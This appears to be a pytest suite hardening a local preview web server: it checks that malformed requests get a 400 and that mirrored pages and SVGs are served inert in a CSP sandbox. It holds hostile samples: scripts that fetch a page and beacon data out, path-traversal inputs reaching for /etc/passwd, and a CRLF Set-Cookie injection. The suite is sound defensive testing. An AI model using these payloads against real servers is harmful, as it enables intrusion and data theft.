"""``digest preview`` against hostile requests and hostile mirror files, on a real server on 127.0.0.1.

A malformed path gets a 400, never a dropped connection; a mirrored page or SVG is served inert
(a CSP sandbox: no script, an opaque origin); idle clients are dropped and never hold a thread each.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from helpers.chromium import ARGS, CHROMIUM
from test_browser import png

from digest.desk.preview import PreviewServer, make_server

HOST = "reviews.example"
# A page a mirror may hold (an author's embed, a captured article): its script tries to act at the
# preview's origin, to read the unpublished issue and to call home.
HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Review: The Long Dark</title></head>
<body><article><h1>Review: The Long Dark</h1><p>Four stars.</p></article>
<img src="/mirror/reviews.example/wp-content/uploads/2025/05/cover.png" alt="cover">
<script>
document.title = "ran";
fetch("/email.html").then(r => r.text()).then(t => fetch("{beacon}/leak?" + t.length));
new Image().src = "{beacon}/img";
</script></body></html>
"""
HOSTILE_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">
<rect width="120" height="40" fill="#1d2433"/>
<script type="text/javascript">document.title = "ran"; fetch("{beacon}/svg");</script>
</svg>
"""


def raw(server: PreviewServer, target: str, *, host: str | None = None) -> bytes:
    """Send one GET for ``target`` exactly as given; the whole answer (the server closes)."""
    port = server.server_address[1]
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(f"GET {target} HTTP/1.1\r\nHost: {host or f'127.0.0.1:{port}'}\r\n"
                     "Connection: close\r\n\r\n".encode("latin-1"))
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    return answer


def headers_of(answer: bytes) -> dict[str, str]:
    head = answer.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")[1:]
    return {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in head)}


@pytest.fixture
def mirror(tmp_path: Path) -> Path:
    root = tmp_path / "mirror"
    uploads = root / "wp-content" / "uploads" / "2025" / "05"
    uploads.mkdir(parents=True)
    (uploads / "cover.png").write_bytes(png(40, 20))
    (uploads / "badge.svg").write_text(HOSTILE_SVG.format(beacon="http://127.0.0.1:9"), encoding="utf-8")
    review = root / "2025" / "05" / "14" / "the-long-dark-review"
    review.mkdir(parents=True)
    (review / "index.html").write_text(HOSTILE_PAGE.format(beacon="http://127.0.0.1:9"), encoding="utf-8")
    return root


def serve(server: PreviewServer) -> threading.Thread:
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    return thread


@pytest.fixture
def serving(tmp_path: Path, mirror: Path) -> Iterator[PreviewServer]:
    server = make_server(tmp_path / "out", port=0, mirrors={HOST: mirror})
    serve(server)
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("target", [
    "/%00",
    "/mirror/reviews.example/%00",
    "/mirror/reviews.example/wp-content/uploads/2025/05/cover.png%00.txt",
    "/mirror/reviews.example/wp-content/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/mirror/reviews.example/../../etc/passwd",
    "/mirror/reviews.example/%ff%fe.png",
    "/mirror/reviews.example/cover%zz.png",
    "/mirror/reviews.example/cover%2.png",
    "/mirror/reviews.example/" + "a/" * 3000,
    "/mirror/reviews.example/" + "a" * 300 + ".png",
    "/mirror/reviews.example/wp-content%5c..%5c..%5cetc%5cpasswd",
    "/digest.txt%0d%0aSet-Cookie:%20x=1",
])
def test_a_malformed_path_is_answered_400(serving: PreviewServer, target: str,
                                          capfd: pytest.CaptureFixture[str]) -> None:
    answer = raw(serving, target)
    assert answer.startswith(b"HTTP/1.0 400 "), answer[:200]
    assert b"Set-Cookie" not in answer and len(answer) < 2000  # a short body, nothing of the path echoed raw
    assert "Traceback" not in capfd.readouterr().err


def test_the_server_still_answers_after_malformed_requests(serving: PreviewServer) -> None:
    for target in ("/%00", "/mirror/reviews.example/%00", "/mirror/reviews.example/" + "a/" * 3000):
        raw(serving, target)
    answer = raw(serving, "/mirror/reviews.example/wp-content/uploads/2025/05/cover.png")
    assert answer.startswith(b"HTTP/1.0 200 ") and answer.endswith(png(40, 20))


@pytest.mark.parametrize("target", [
    "/mirror/reviews.example/2025/05/14/the-long-dark-review/",
    "/mirror/reviews.example/2025/05/14/the-long-dark-review/index.html",
    "/mirror/reviews.example/wp-content/uploads/2025/05/badge.svg",
    "/mirror/reviews.example/wp-content/uploads/2025/05/cover.png",
])
def test_mirror_files_are_served_inert(serving: PreviewServer, target: str) -> None:
    answer = raw(serving, target)
    assert answer.startswith(b"HTTP/1.0 200 ")
    headers = headers_of(answer)
    policy = [p.strip() for p in headers["content-security-policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert not any("script-src" in p or "allow-scripts" in p or "allow-same-origin" in p for p in policy)
    assert headers["x-content-type-options"] == "nosniff"


def test_the_text_part_is_served_inert(serving: PreviewServer, tmp_path: Path) -> None:
    folder = tmp_path / "out" / "2025-W20"
    folder.mkdir(parents=True)
    (folder / "digest.html").write_text("<p>hi</p>", encoding="utf-8")
    (folder / "digest.txt").write_text("<script>alert(1)</script>", encoding="utf-8")
    headers = headers_of(raw(serving, "/digest.txt"))
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]


def test_a_file_gone_mid_rebuild_is_answered_not_dropped(serving: PreviewServer, tmp_path: Path,
                                                         capfd: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "out" / "2025-W20"
    folder.mkdir(parents=True)
    (folder / "digest.html").write_text("<p>hi</p>", encoding="utf-8")  # digest.txt not written yet
    answer = raw(serving, "/digest.txt")
    assert answer.startswith(b"HTTP/1.0 500 ") and b"the preview failed on this request" in answer
    assert "Traceback" not in capfd.readouterr().err


def thread_count_settles(target: int, within: float) -> bool:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        if threading.active_count() <= target:
            return True
        time.sleep(0.05)
    return threading.active_count() <= target


def test_idle_clients_are_dropped_and_never_hold_a_thread_each(tmp_path: Path, mirror: Path) -> None:
    server = make_server(tmp_path / "out", port=0, mirrors={HOST: mirror}, idle_timeout=0.5, max_connections=8)
    serve(server)
    baseline = threading.active_count()
    port = server.server_address[1]
    idle = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(50)]
    try:
        # One that sent half a request line: a slow client is dropped the same way.
        idle[0].sendall(b"GET /mirror/reviews.example/wp-content/upl")
        time.sleep(0.3)
        assert threading.active_count() <= baseline + 8  # the rest wait in line or are turned away
        for conn in idle:
            try:
                leftover = b""
                while chunk := conn.recv(4096):  # the server closes: EOF, after at most a 503
                    leftover += chunk
            except ConnectionResetError:
                leftover = b""
            assert leftover == b"" or leftover.startswith(b"HTTP/1.0 503 ")
        assert thread_count_settles(baseline, within=5), threading.enumerate()
        # And it still serves.
        answer = raw(server, "/mirror/reviews.example/wp-content/uploads/2025/05/cover.png")
        assert answer.startswith(b"HTTP/1.0 200 ")
    finally:
        for conn in idle:
            conn.close()
        server.shutdown()
        server.server_close()


# -- in a real browser --------------------------------------------------------------------------------


class Beacon(BaseHTTPRequestHandler):
    """A second local server: any hit means a mirrored script ran."""

    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        Beacon.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the stdlib's name
        pass


@pytest.mark.slow
def test_a_mirrored_page_or_svg_runs_no_script_in_chromium(tmp_path: Path, mirror: Path) -> None:
    if not CHROMIUM.exists():
        pytest.fail("Chromium not installed at /usr/bin/chromium (apt-get install chromium; .ci/run does)")
    from playwright.sync_api import sync_playwright

    beacon = ThreadingHTTPServer(("127.0.0.1", 0), Beacon)
    threading.Thread(target=beacon.serve_forever, daemon=True).start()
    Beacon.hits = []
    where = f"http://127.0.0.1:{beacon.server_address[1]}"
    review = mirror / "2025" / "05" / "14" / "the-long-dark-review" / "index.html"
    review.write_text(HOSTILE_PAGE.format(beacon=where), encoding="utf-8")
    svg = mirror / "wp-content" / "uploads" / "2025" / "05" / "badge.svg"
    svg.write_text(HOSTILE_SVG.format(beacon=where), encoding="utf-8")
    server = make_server(tmp_path / "out", port=0, mirrors={HOST: mirror})
    serve(server)
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
            page = browser.new_page()
            titles, origins = [], []
            for target in ("mirror/reviews.example/2025/05/14/the-long-dark-review/",
                           "mirror/reviews.example/wp-content/uploads/2025/05/badge.svg"):
                page.goto(server.url + target)
                page.wait_for_load_state("load")
                page.wait_for_timeout(500)
                titles.append(page.title())
                origins.append(page.evaluate("() => self.origin"))
            browser.close()
    finally:
        server.shutdown()
        server.server_close()
        beacon.shutdown()
        beacon.server_close()
    assert Beacon.hits == []  # no script called home, from the page or the SVG
    assert titles[0] == "Review: The Long Dark" and titles[1] != "ran"
    assert origins == ["null", "null"]  # opaque origins: nothing there acts as the preview
